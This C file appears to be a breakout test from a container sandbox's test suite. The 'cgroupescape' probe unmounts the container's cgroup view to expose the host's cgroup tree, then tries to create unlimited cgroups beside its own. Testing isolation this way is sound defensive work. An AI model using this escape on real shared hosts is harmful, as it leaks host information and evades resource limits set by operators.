/**
 * @file
 * @brief cgroupescape: below the container's cgroups lie the host's.
 *
 * A container sees its own cgroup as the root of the tree, by a mount over
 * /sys/fs/cgroup. If the /sys below is the host's, because only the owner of a
 * network namespace gets a new one, then umount(2) shows the host's tree again:
 * which services run, and how much they use. An ordinary user's container can
 * even make a cgroup beside its own there, which has no limits; so we try.
 */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "tests/attacks/breakouts/breakout.h"

/* Only then is there a mount of our own to take away. */
static int sees_itself_as_root(void)
{
    char line[256] = "";
    FILE *file = fopen("/proc/self/cgroup", "re");

    if (file && fgets(line, sizeof(line), file))
        fclose(file);
    return strcmp(line, "0::/\n") == 0;
}

BREAKOUT(cgroupescape)
{
    const struct dirent *entry;
    char path[512];
    DIR *tree;

    if (sees_itself_as_root())
        umount2("/sys/fs/cgroup", MNT_DETACH);
    mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL);
    if (!(tree = opendir("/sys/fs/cgroup")))
        return stopped("/sys/fs/cgroup");
    while ((entry = readdir(tree))) {
        puts(entry->d_name);
        snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/beside", entry->d_name);
        if (entry->d_name[0] != '.' && mkdir(path, 0755) == 0)
            printf("made %s\n", path);
    }
    closedir(tree);
    return 0;
}
